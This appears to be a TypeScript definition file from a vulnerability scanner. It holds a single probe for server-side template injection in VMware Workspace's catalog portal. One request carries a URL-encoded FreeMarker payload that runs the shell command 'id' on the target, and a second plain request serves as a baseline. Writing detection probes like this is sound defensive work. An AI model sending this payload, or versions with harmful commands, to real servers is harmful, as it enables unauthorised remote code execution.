import { type Proof, get, proof } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof(
    'vmware-workspace-ssti',
    get(
      '/catalog-portal/ui/oauth/verify?error=&deviceUdid=%24%7b%22freemarker.template.utility.Execute%22%3fnew%28%29%28%22id%22%29%7d',
    ),
    get('/catalog-portal/ui/oauth/verify?deviceUdid=1'),
  ),
]
